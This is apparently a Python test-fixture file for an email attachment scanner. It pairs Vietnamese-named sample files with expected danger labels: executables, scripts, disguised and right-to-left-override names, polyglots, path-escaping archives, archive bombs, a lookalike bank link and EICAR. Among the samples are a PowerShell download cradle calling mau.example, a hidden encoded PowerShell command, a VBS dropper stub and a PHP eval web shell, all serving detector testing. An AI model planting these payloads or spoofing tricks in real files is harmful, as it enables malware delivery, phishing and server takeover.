"""Files of the bad kinds: name, content, labels of the dangers."""

from tests.zoo import makers as make
from zalo_governor.domain.attachments import NotChecked

_JPG, _PNG, _GIF, _PDF = make.picture("JPEG"), make.picture("PNG"), make.picture("GIF"), make.pdf()
_PE, _ZIP = make.pe(), make.zipped({"a.txt": b"Xin chao"})
_BATCH = b"@echo off\r\nstart notepad\r\n"
_VBS = b'Set o = CreateObject("WScript.Shell")\r\no.Popup "x"\r\n'
_JS = b'var o = new ActiveXObject("WScript.Shell");\r\no.Popup("x");\r\n'
_HTA = b'<html><head><HTA:APPLICATION ID="x"></head><script language="VBScript">MsgBox 1</script></html>'
_WSF = b'<job id="x"><script language="JScript">WScript.Echo(1);</script></job>'
_PS1 = b"$a = 1\r\nStart-Process notepad\r\n"
_CRADLE = b"IEX (New-Object Net.WebClient).Download" + b"String('http://mau.example/a')\r\n"
_ENCODED = b"powershell.exe -NoP -W Hidden -" + b"enc " + b"QQBB" * 30 + b"\r\n"
_DROPPER = (
    _VBS + b'Set h = CreateObject("MSXML2.XML' + b'HTTP")\r\nSet s = CreateObject("ADODB.Stream")\r\no.Run "x"\r\n'
)
_SHELL_PHP = b"<?php ev" + b"al($_PO" + b"ST['x']); ?>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_URL = b"[InternetShortcut]\r\nURL=%s\r\n"
_APK = make.zipped({"AndroidManifest.xml": b"\x03\0\x08\0", "classes.dex": b"dex\n035\0", "META-INF/MANIFEST.MF": b""})
_JAR = make.zipped({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": bytes.fromhex("cafebabe00000034")})
_MSI = make.ole({"Property": b"x"}, make.MSI_CLASS)
_APPX = make.zipped({"AppxManifest.xml": b"<Package/>", "[Content_Types].xml": b"<Types/>"})
_HTML = b"<!DOCTYPE html><html><body><form action='http://mau.example'>x</form></body></html>"

_MEETING = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nLOCATION:http://203.0.1\r\n 13.7/hop\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"

ROWS = (
    # Programs under their own names.
    ("cai-dat.exe", _PE, "executable"),
    ("man-hinh.scr", _PE, "executable"),
    ("thu-vien.dll", _PE, "executable"),
    ("tien-ich.com", _PE, "executable"),
    ("khong-duoi", _PE, "executable"),
    ("chuong-trinh.bin", make.elf(), "executable"),
    ("chuong-trinh", make.mach_o(), "executable"),
    ("VNeID-gia-dinh.apk", _APK, "executable"),
    ("tien-ich.jar", _JAR, "executable"),
    ("cai-dat.msi", _MSI, "executable"),
    ("ung-dung.appx", _APPX, "executable"),
    ("ung-dung.ipa", make.zipped({"Payload/Mau.app/Info.plist": b"x"}), "executable"),
    ("lop.dex", b"dex\n035\0" + bytes(100), "executable"),
    ("huong-dan.chm", b"ITSF\x03\0\0\0" + bytes(90), "executable?"),
    ("rong.exe", b"", "executable"),
    ("cong-cu.exe", b"khong phai chuong trinh", "executable"),
    # Scripts.
    ("chay.bat", _BATCH, "script"),
    ("chay.cmd", b"dir c:\\\r\n", "script"),
    ("chay.vbs", _VBS, "script"),
    ("chay.vbe", b"#@~^AAAAAA==", "script"),
    ("chay.js", _JS, "script"),
    ("trang.js", b"function a() { return 1; }\n", "script?"),
    ("chay.jse", b"var a = 1;", "script"),
    ("chay.wsf", _WSF, "script"),
    ("bieu-mau.hta", _HTA, "script"),
    ("chay.ps1", _PS1, "script?"),
    ("chay-tai.ps1", _CRADLE, "script? signature"),
    ("chay-ma-hoa.bat", _ENCODED, "script signature"),
    ("tai-ve.vbs", _DROPPER, "script signature"),
    ("chay.sh", b"#!/bin/sh\necho 1\n", "script?"),
    ("chay.py", b"import os\nprint(1)\n", "script?"),
    ("khoa.reg", b"Windows Registry Editor Version 5.00\r\n", "script?"),
    ("khong-duoi-2", _BATCH, "script"),
    ("trang.html", _HTA, "script"),
    ("cua-sau.php", _SHELL_PHP, "signature"),
    ("anh-dong.svg", _SVG, "script?"),
    ("bao-cao-utf16.vbs", _VBS.decode().encode("utf-16"), "script"),
    # Shortcuts.
    ("Tai lieu.lnk", make.lnk(), "shortcut"),
    ("Tai lieu mo.lnk", make.lnk("powershell.exe -w hidden -c 1"), "shortcut"),
    ("lien-ket.url", _URL % b"file://10.0.0.1/chung/a.exe", "shortcut?"),
    ("lien-ket-2.url", _URL % b"http://mau.example/tai-ve.exe", "shortcut?"),
    ("lien-ket-3.url", _URL % b"http://mau.example/" + b"IconFile=\\\\10.0.0.1\\chung\\a.ico\r\n", "shortcut?"),
    ("mo.desktop", b"[Desktop Entry]\nType=Application\nExec=true\n", "shortcut?"),
    # Programs and scripts under the names of documents and pictures.
    ("cong-van.docx", _PE, "executable disguised"),
    ("cong-van.pdf", _PE, "executable disguised"),
    ("anh.jpg", _PE, "executable disguised"),
    ("ghi-chu.txt", _PE, "executable disguised"),
    ("phim.mp4", make.elf(), "executable disguised"),
    ("bang-ke.xls", _MSI, "executable disguised"),
    ("danh-sach.xlsx", _JAR, "executable disguised"),
    ("anh.png", _APK, "executable disguised"),
    ("thong-bao.docx", make.lnk(), "shortcut disguised"),
    ("thong-bao.pdf", _HTA, "script disguised"),
    ("thong-bao.doc", _VBS, "script disguised"),
    ("ke-hoach.pdf", _BATCH, "script disguised"),
    ("hinh.jpg", _JS, "script disguised"),
    ("hinh.png", _SVG, "script? disguised?"),
    ("cong-van-2.pdf", _ZIP, "disguised?"),
    ("cong-van-3.docx", _ZIP, "disguised?"),
    ("phim-2.mp4", make.seven_zipped({"a.txt": b"x"}), "disguised?"),
    ("cong-van-4.pdf", _HTML, "disguised?"),
    # Names.
    ("bao-cao.pdf.exe", _PE, "executable double_extension"),
    ("Ke hoach 12.3.docx.scr", _PE, "executable double_extension"),
    ("anh.jpg.js", _JS, "script double_extension"),
    ("danh sach.xlsx.lnk", make.lnk(), "shortcut double_extension"),
    ("luu-tru.zip.exe", _PE, "executable double_extension"),
    ("bao-cao.pdf.com", _PE, "executable double_extension"),
    ("cong-van\u202excod.exe", _PE, "executable hidden_name"),
    ("cong-van\u202efdp.scr", _PE, "executable hidden_name"),
    ("bao-cao.pdf" + " " * 40 + ".exe", _PE, "executable double_extension hidden_name"),
    ("bao-cao.pdf\u00a0\u00a0\u00a0\u00a0\u00a0\u00a0.exe", _PE, "executable double_extension hidden_name"),
    ("cai-dat.exe...", _PE, "executable hidden_name"),
    ("cai-dat.e\u200bxe", _PE, "executable hidden_name"),
    ("cai-dat.\u0435\u0445\u0435", _PE, "executable hidden_name"),
    ("cong-van.d\u043ecx", make.word(), "hidden_name"),
    ("cai-dat.\uff45\uff58\uff45", _PE, "executable hidden_name"),
    ("cong\u2067 van.pdf", _PDF, "hidden_name"),
    ("cong\u200b van.pdf", _PDF, "hidden_name?"),
    # Two types at once.
    ("anh-1.jpg", _JPG + _PE, "polyglot?"),
    ("anh-2.png", _PNG + _ZIP, "polyglot?"),
    ("anh-3.gif", _GIF + make.rar({"a.txt": b"x"}), "polyglot?"),
    ("anh-4.jpg", _JPG + make.seven_zipped({"a.txt": b"x"}), "polyglot?"),
    ("anh-5.jpg", _JPG + _HTA, "polyglot?"),
    ("to-trinh-1.pdf", _PDF + _ZIP, "polyglot?"),
    ("to-trinh-2.pdf", _PDF + _HTA, "polyglot?"),
    ("to-trinh-3.pdf", _PDF + _JAR, "polyglot?"),
    ("to-trinh-4.pdf", _PE[:200] + bytes(200) + _PDF, "executable disguised polyglot?"),
    ("hai-goi.zip", make.zipped({"b.exe": _PE}) + _ZIP, "executable polyglot?"),
    # Archives.
    ("goi.zip", make.zipped({"bao-cao.pdf.exe": _PE}), "executable double_extension"),
    ("goi-2.zip", make.zipped({"cong-van.docx": _PE}), "executable disguised"),
    ("goi.7z", make.seven_zipped({"cai-dat.exe": _PE}), "executable"),
    ("goi.rar", make.rar({"cai-dat.exe": _PE}), "executable"),
    ("goi.tar", make.tarred({"cai-dat.exe": _PE}), "executable"),
    ("goi.tar.gz", make.tarred({"chay.bat": _BATCH}, "gz"), "script"),
    ("goi.tar.xz", make.tarred({"Tai lieu.lnk": make.lnk()}, "xz"), "shortcut"),
    ("goi.tbz2", make.tarred({"tai-lieu.exe": _PE}, "bz2"), "executable"),
    ("goi-long.zip", make.nested_zip(3, {"cai-dat.exe": _PE}), "executable"),
    ("thoat.zip", make.zipped({"../../a.txt": b"x"}), "path_escape"),
    ("thoat-2.zip", make.zipped({"..\\..\\a.txt": b"x"}), "path_escape"),
    ("thoat-3.zip", make.zipped({"/etc/a.txt": b"x"}), "path_escape?"),
    ("thoat.tar", make.tarred({"../a.txt": b"x"}), "path_escape"),
    ("thoat-2.tar", make.tar_with_link("../../etc"), "path_escape"),
    ("thoat-4.zip", make.zip_with_link("../../etc"), "path_escape"),
    ("thoat.7z", make.escaping_seven_zip(), "path_escape"),
    ("thoat.rar", make.rar({"..\\a.txt": b"x"}), "path_escape"),
    # Mail kept as a text.
    ("hop-thu.txt", b"From a@mau.example\r\n" + make.mail_with("cai-dat.exe", _PE), "executable"),
    ("thu-co-tep.eml", make.mail_with("chay.bat", _BATCH), "script"),
    # Addresses typed as text.
    ("ghi-chu-2.txt", "Đăng nhập lại ở https://vietcombank.top/mau".encode(), "lookalike_link"),
    ("giay-moi-2.docx", make.word("Tải ở http://tai-ve-mau.com/vneid.apk"), "program_link"),
    ("lich-2.ics", _MEETING, "hidden_link?"),
    ("canh-bao.txt", "Cảnh báo trang giả mạo: vietcombank.top".encode(), "lookalike_link?"),
    # The industry's test file.
    ("thu.txt", make.eicar(), "signature"),
    ("thu.zip", make.zipped({"thu.txt": make.eicar()}), "signature"),
    ("thu-long.zip", make.nested_zip(2, {"thu.txt": make.eicar()}), "signature"),
    ("thu.docx", make.eicar(), "signature"),
)

NOT_WHOLLY_READ = (
    ("goi.cab", b"MSCF\0\0\0\0" + bytes(60), "unread_container?", NotChecked.UNKNOWN_TYPE),
    ("goi.arj", bytes.fromhex("60ea22001e0b0100100002") + bytes(90), "unread_container?", NotChecked.UNKNOWN_TYPE),
    ("so-tay.one", make.one_note(), "unread_container?", NotChecked.UNKNOWN_TYPE),
    ("thu-nhieu-phan.eml", make.mail_of_parts(1_001), "", NotChecked.LIMIT),
    ("dong-2.gif", make.animation(5), "", NotChecked.LIMIT),
    ("khoa.zip", make.encrypted_zip({"cai-dat.exe": _PE}), "executable", NotChecked.ENCRYPTED),
    ("khoa-2.zip", make.encrypted_zip({"bao-cao.pdf.scr": _PE}), "executable double_extension", NotChecked.ENCRYPTED),
    ("khoa.7z", make.seven_zipped({"cai-dat.exe": _PE}, "mau"), "executable", NotChecked.ENCRYPTED),
    ("khoa.rar", make.rar({"cai-dat.exe": _PE}, encrypted=True), "executable", NotChecked.ENCRYPTED),
    ("nen.rar", make.rar({"Tai lieu.lnk": make.lnk()}, method=0x33), "shortcut", NotChecked.UNKNOWN_TYPE),
    ("bom.zip", make.zip_bomb(64 << 20), "archive_bomb?", NotChecked.LIMIT),
    ("bom.gz", make.gzip_bomb(64 << 20), "archive_bomb?", NotChecked.LIMIT),
    ("bom.xz", make.xz_bomb(64 << 20), "archive_bomb?", NotChecked.LIMIT),
    ("bom-long.zip", make.zipped({"bom.zip": make.zip_bomb(64 << 20)}), "archive_bomb?", NotChecked.LIMIT),
    ("bom-khai.zip", make.lying_zip(3 << 30), "archive_bomb", NotChecked.LIMIT),
    ("bup-be.zip", make.nested_zip(7, {"cai-dat.exe": _PE}), "", NotChecked.LIMIT),
    ("cong-van-5.pdf", make.iso(), "disk_image? disguised?", NotChecked.UNKNOWN_TYPE),
    ("dia.iso", make.iso(), "disk_image?", NotChecked.UNKNOWN_TYPE),
    ("dia.vhd", bytes(1024) + b"conectix" + bytes(504), "disk_image?", NotChecked.UNKNOWN_TYPE),
    ("dia.img", make.iso(), "disk_image?", NotChecked.UNKNOWN_TYPE),
    ("anh-6.gif", b"GIF89a=1;/*" + _GIF[10:], "polyglot?", NotChecked.LIMIT),
)
